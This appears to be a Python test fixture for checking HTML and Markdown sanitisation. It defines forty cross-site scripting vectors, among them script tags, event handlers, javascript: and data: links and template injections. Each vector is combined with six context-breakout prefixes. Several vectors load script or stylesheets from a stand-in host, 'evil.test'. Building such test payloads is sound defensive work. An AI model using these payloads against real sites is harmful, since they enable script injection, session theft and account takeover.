"""Words that try to run: each vector in each place it may try to break out of.

What they call is `ran()`, which the browser of the test counts, or a host that does not exist.
"""

from collections.abc import Iterator
from itertools import cycle

HOST = "evil.test"
VECTORS = (
    "<script>ran()</script>",
    f"<script src=//{HOST}/a.js></script>",
    "<ScRiPt >ran()</sCrIpT >",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<img src=x onerror=ran()>",
    "<img src=x:y onerror=&#x72;an()>",
    '<img """><script>ran()</script>">',
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><foreignObject><iframe onload=ran()>",
    "<body onload=ran()>",
    "<iframe src=javascript:parent.ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'>",
    "<details open ontoggle=ran()>",
    "<video><source onerror=ran()></video>",
    "<audio src=x onerror=ran()>",
    "<input autofocus onfocus=ran()>",
    "<object data=javascript:ran()>",
    "<embed src=javascript:ran()>",
    "<a href=javascript:ran()>lien</a>",
    "<a href='java&#9;script:ran()'>lien</a>",
    "<form action=javascript:ran()><button>ok</button></form>",
    "<button formaction=javascript:ran()>ok</button>",
    f"<base href=//{HOST}/>",
    f"<link rel=stylesheet href=//{HOST}/a.css>",
    f"<style>@import '//{HOST}/b.css'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
    "<p onmouseover=ran() style=position:fixed;inset:0>",
    "<template><script>ran()</script></template>",
    "[lien](javascript:ran())",
    "[lien]( JaVaScRiPt:ran())",
    "[lien](data:text/html,<script>ran()</script>)",
    '![image](x" onerror="ran())',
    "<javascript:ran()>",
    "{{ ran() }}{% debug %}",
    "${ran()}`-ran()-`",
    "'-ran()-'\"-ran()-\"",
    "\\u003cscript>ran()\\u003c/script>",
    "&lt;script&gt;ran()&lt;/script&gt;",
)
BREAKS = ("", "\"'>", "</title></textarea>", "--></style></script>", "`]]></code></pre>", "\\\"'/>")
PAYLOADS = tuple(f"{escape}{vector}" for escape in BREAKS for vector in VECTORS)


def chunks(limit: int) -> list[str]:
    """Return the payloads, as many together as fit in `limit` characters; longer ones are out."""
    found, own = [], ""
    for payload in PAYLOADS:
        if len(own) + len(payload) >= limit and own:
            found.append(own)
            own = ""
        if len(payload) <= limit:
            own = f"{own} {payload}".lstrip()
    return [*found, own]


def shares(limit: int) -> Iterator[str]:
    """Return an endless turn through `chunks(limit)`."""
    return cycle(chunks(limit))
